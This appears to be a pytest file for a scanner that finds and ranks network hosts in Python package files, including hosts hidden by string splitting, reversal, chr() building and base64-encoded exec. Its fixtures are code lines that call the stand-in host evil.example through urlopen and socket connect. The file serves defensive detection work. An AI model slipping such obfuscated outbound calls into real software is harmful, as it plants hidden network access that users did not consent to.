import pytest

from features.code.analyse_file import analyse_file
from features.code.analysed_file import AnalysedFile, section_of
from features.code.host_uses import hidden_hosts, list_hosts
from features.code.text_decoding import read_text
from features.contract import FileType, HostKind, HostUse, Member, Role
from features.host_list import HostRank
from features.text.host_place import HostPlace

TEXT = b"import urllib.request\nurllib.request.urlopen('https://evil.example/x')\n"


def read(
    data: bytes, path: str, role: Role = Role.REST, file_type: FileType = FileType.PYTHON, known: bool = False
) -> AnalysedFile:
    member = Member(path, len(data), file_type, role, data, data[:4096], b"d" * 16)
    text = read_text(member)
    return AnalysedFile(member, section_of(member), data, b"", text.scan, known=known, hosts=text.hosts)


@pytest.mark.parametrize(
    ("file", "expected"),
    [
        (read(TEXT, "setup.py", Role.INSTALL), HostRank.INSTALL),
        (read(TEXT, "a/__init__.py", Role.IMPORT), HostRank.IMPORT),
        (read(TEXT, "a/b.py"), HostRank.REST),
        (read(TEXT, "tests/b.py"), HostRank.DATA),
        (read(TEXT, "a/b.py", known=True), HostRank.DATA),
        (read(TEXT, "a/b.json", file_type=FileType.TEXT), HostRank.DATA),
        (read(TEXT, "README.md", file_type=FileType.TEXT), HostRank.PROSE),
        (read(TEXT, "a.dist-info/METADATA", file_type=FileType.METADATA), HostRank.PROSE),
    ],
)
def test_the_kind_of_member_ranks_its_hosts(file: AnalysedFile, expected: HostRank) -> None:
    use = HostUse("evil.example", HostKind.NAME, file.member.path, 2, file.member.role, 1)
    assert [(expected, use)] == list_hosts([file], ())


@pytest.mark.parametrize(
    "code",
    [
        "x = 1\nget('https://' + 'evil' + '.example/x')\n",
        "x = 1\nget('elpmaxe.live//:sptth'[::-1])\n",
        "import base64\nexec(base64.b64decode('aW1wb3J0IHVybGxpYi5yZXF1ZXN0CnVybGxpYi5yZXF1ZXN0LnVybG9wZW4oJ2h0dHBzOi8vZXZpbC5leGFtcGxlL3gnKQo='))\n",
        "import base64\nget(base64.b64decode('ZXZpbC5leGFtcGxl').decode())\n",
        "x = 1\nconnect((chr(101) + 'vil.' + 'example', 80))\n",
    ],
)
def test_hosts_inside_encoded_and_folded_text_stand_at_the_line_that_holds_it(code: str) -> None:
    file = read(code.encode(), "a.py")
    assert "evil.example" not in {place.host for place in file.hosts}
    file.analysis = analyse_file(code.encode(), Role.REST)
    found = {place.host: place.line for _, place in hidden_hosts([file])}
    assert {"evil.example": 2} == found
    assert "evil.example" in [use.host for _, use in list_hosts([file], hidden_hosts([file]))]


def test_a_file_without_an_analysis_hides_nothing() -> None:
    assert () == hidden_hosts([read(TEXT, "a.py")])
    assert [HostPlace("evil.example", HostKind.NAME, 2, 1)] == list(read(TEXT, "a.py").hosts)
